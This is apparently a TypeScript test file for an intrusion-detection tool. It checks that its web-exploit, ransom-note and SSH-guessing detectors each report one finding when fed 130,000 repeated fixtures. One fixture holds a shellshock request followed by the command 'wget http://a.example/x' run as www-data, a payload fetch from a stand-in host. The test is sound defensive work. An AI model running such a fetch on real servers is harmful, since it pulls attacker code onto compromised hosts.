import assert from "node:assert/strict";
import { test } from "node:test";
import type { Detector } from "../../src/find/detector.ts";
import { limitReader } from "../../src/find/limits.ts";
import { ransomNote } from "../../src/find/ransom-note.ts";
import { sshGuessing } from "../../src/find/ssh-guessing.ts";
import { webExploit } from "../../src/find/web-exploit.ts";
import { factsOf } from "../kit/facts.ts";
import type { HostFixture } from "../kit/host-facts.ts";

/** More than a call takes as arguments (some 120,000 on Node's stack); a run keeps 200,000 of a kind. */
const MANY = 130_000;

function found(detector: Detector, one: HostFixture, last: readonly HostFixture[] = []): number {
  const host = [...Array.from({ length: MANY }, () => one), ...last];
  const facts = factsOf({ why: "more facts than fit on a stack", host });
  return [...detector.find(facts, limitReader(detector, new Map()))].length;
}

test("no number of requests, each followed by a command, ends a run", () => {
  const request: HostFixture = {
    kind: "request",
    at: 90,
    exploit: "shellshock",
    client: "198.51.100.7",
    target: "/cgi-bin/a",
  };
  const text = "wget http://a.example/x";
  const command: HostFixture = { kind: "command", at: 100, user: "www-data", by: "auditd", text };
  assert.equal(found(webExploit, request, [command]), 1);
});

test("no number of ransom notes ends a run", () => {
  assert.equal(found(ransomNote, { kind: "ransom-note", at: 1, path: "/a/README", demands: ["pay"] }), 1);
});

test("no number of failed logins ends a run", () => {
  const from = "198.51.100.7";
  const success: HostFixture = { kind: "login", at: 2, from };
  assert.equal(found(sshGuessing, { kind: "login", at: 1, from, outcome: "failed" }, [success]), 1);
});
